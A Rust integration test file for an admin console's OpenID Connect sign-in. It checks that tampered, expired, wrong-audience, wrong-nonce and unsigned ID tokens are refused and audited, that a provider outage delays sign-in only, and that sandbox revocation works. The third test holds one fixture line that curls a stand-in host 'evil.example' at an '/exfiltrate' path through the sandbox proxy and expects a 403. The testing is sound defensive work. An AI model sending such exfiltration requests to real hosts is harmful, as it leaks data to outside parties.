//! Signing in through OpenID Connect when something is not right: every ID token the provider spoils
//! (tampered, expired, for another audience, with another nonce, unsigned) is refused and recorded, and the next
//! good one is accepted; a provider that does not answer at start delays sign-in only (cordon warns, asks again,
//! and the admin API's tokens work meanwhile).

use std::time::{Duration, Instant};

use crate::rigs::browser::browser;
use crate::rigs::console::{console_rig, sign_in};
use crate::rigs::wait::Within;

#[tokio::test(flavor = "multi_thread", worker_threads = 4)]
async fn spoiled_id_tokens_are_refused_and_recorded_and_a_good_one_signs_in() {
    let mut rig = console_rig(false).await;
    let b = browser().await;
    let modes = [
        ("tamper", "its signature does not verify"),
        ("expired", "it has expired"),
        ("wrong-audience", "issued for another client"),
        ("wrong-nonce", "its nonce is not the one this sign-in sent"),
        ("alg-none", "not a signed JWT"),
    ];
    for (mode, said) in modes {
        rig.idp_mode(mode);
        let page = sign_in(&rig, &b, "anna").await;
        assert!(page.contains("Sign-in refused"), "{mode}: {page}");
        assert!(page.contains(said), "{mode}: {page}");
        assert!(!page.contains("anna@example.test ("), "{mode}: not signed in: {page}");
    }
    rig.idp_mode("normal");
    let page = sign_in(&rig, &b, "anna").await;
    assert!(page.contains("anna@example.test"), "{page}");
    b.close().await;
    let records = rig.stop().await;
    let sign_ins: Vec<(&str, &str)> = records
        .iter()
        .filter(|r| r["admin"]["action"] == "sign_in")
        .map(|r| (r["decision"].as_str().unwrap(), r["reason"].as_str().unwrap()))
        .collect();
    let mut expected = vec![("deny", "admin_unauthorized"); modes.len()];
    expected.push(("allow", "admin_action"));
    assert_eq!(sign_ins, expected);
    crate::rigs::audit::assert_schema(&rig.dir.path().join("audit.jsonl"));
    for (r, (mode, said)) in records.iter().filter(|r| r["admin"]["action"] == "sign_in").zip(modes) {
        let detail = r["admin"]["detail"].as_str().unwrap();
        assert!(detail.contains(said), "{mode}: {detail}");
        assert!(
            r["admin"]["principal"].is_null(),
            "{mode}: a refused sign-in names nobody"
        );
    }
}

#[tokio::test(flavor = "multi_thread", worker_threads = 4)]
async fn a_provider_down_at_start_delays_sign_in_only() {
    let mut rig = console_rig(true).await;
    // The admin API works with tokens while the provider is away.
    let (status, said) = rig.api("GET", "/v1/sandboxes", &rig.token("ci"), "").await;
    assert_eq!(status, 200, "{said}");
    let page = |rig: &crate::rigs::console::ConsoleRig| {
        let out = crate::rigs::process::curl()
            .arg(rig.url("/console/login"))
            .timed_output()
            .unwrap();
        String::from_utf8_lossy(&out.stdout).into_owned()
    };
    let waiting = page(&rig);
    assert!(waiting.contains("has not answered yet"), "{waiting}");
    assert!(waiting.contains("With an admin token"), "{waiting}");
    let log = rig.log();
    assert!(
        log.contains("the identity provider does not answer") && log.contains("admin tokens work meanwhile"),
        "{log}"
    );
    rig.start_idp().await;
    let until = Instant::now() + Duration::from_secs(40);
    while !page(&rig).contains("Sign in with http://127.0.0.1") {
        assert!(Instant::now() < until, "sign-in never opened: {}", rig.log());
        tokio::time::sleep(Duration::from_millis(250)).await;
    }
    assert!(rig.log().contains("sign-in is open"));
    let b = browser().await;
    let landed = sign_in(&rig, &b, "victor").await;
    assert!(landed.contains("victor@example.test (viewer"), "{landed}");
    b.close().await;
    rig.stop().await;
}

#[tokio::test(flavor = "multi_thread", worker_threads = 4)]
async fn a_token_signs_in_too_and_a_wrong_one_is_refused_and_recorded() {
    let mut rig = console_rig(false).await;
    let b = browser().await;
    for (token, expect) in [
        ("not-a-token", "is not one of"),
        (rig.token("ci").as_str(), "ci (platform"),
    ] {
        b.client.goto(&rig.url("/console/login")).await.unwrap();
        let field = b.wait_for("#token", 10).await;
        field.send_keys(token).await.unwrap();
        b.client
            .find(fantoccini::Locator::Css("form[action='/console/login/token'] button"))
            .await
            .unwrap()
            .click()
            .await
            .unwrap();
        b.wait_text(expect, 10).await;
    }
    // A platform token may revoke from the sandboxes page; sb1 is declared in the file, so it has no button.
    let signed = crate::rigs::console::session_of(&b).await;
    b.client
        .goto(&rig.url(&format!("{}sandboxes", signed.base)))
        .await
        .unwrap();
    b.wait_for("tr[data-sandbox='sb1']", 10).await;
    let (status, made) = rig
        .api(
            "POST",
            "/v1/sandboxes",
            &rig.token("ci"),
            r#"{"user": "bob", "policy": "pay"}"#,
        )
        .await;
    assert_eq!(status, 201, "{made}");
    let id = made["id"].as_str().unwrap().to_owned();
    // The list follows the change by itself (an admin action tells the open pages).
    b.wait_for(&format!("tr[data-sandbox='{id}'] form[action$='/revoke'] button"), 20)
        .await;
    let refused = crate::rigs::process::curl()
        .args(["-o", "/dev/null", "-w", "%{http_code}"])
        .args(["-x", &format!("http://sb1:tok1@127.0.0.1:{}", rig.proxy)])
        .arg(format!("http://evil.example:{}/exfiltrate", rig.up.addr.port()))
        .timed_output()
        .unwrap();
    assert_eq!(String::from_utf8_lossy(&refused.stdout), "403");
    b.client.refresh().await.unwrap();
    b.wait_for("table.refusals[data-sandbox='sb1']", 10).await;
    let shot = b.screenshot().await;
    std::fs::write(crate::console::screenshot_path(&rig, "console-sandboxes.png"), shot).unwrap();
    let revoke = b
        .wait_for(&format!("tr[data-sandbox='{id}'] form[action$='/revoke'] button"), 10)
        .await;
    revoke.click().await.unwrap();
    b.wait_text("Revoked", 10).await;
    let (_, shown) = rig
        .api("GET", &format!("/v1/sandboxes/{id}"), &rig.token("ci"), "")
        .await;
    assert!(!shown["revoked_at"].is_null(), "{shown}");
    b.close().await;
    let records = rig.stop().await;
    let actions: Vec<(&str, &str, &str)> = records
        .iter()
        .filter(|r| r["kind"] == "admin")
        .map(|r| {
            (
                r["admin"]["action"].as_str().unwrap(),
                r["decision"].as_str().unwrap(),
                r["admin"]["principal"].as_str().unwrap_or("-"),
            )
        })
        .collect();
    assert_eq!(
        actions,
        [
            ("sign_in", "deny", "-"),
            ("sign_in", "allow", "ci"),
            ("sandbox_created", "allow", "ci"),
            ("sandbox_revoked", "allow", "ci"),
        ]
    );
}
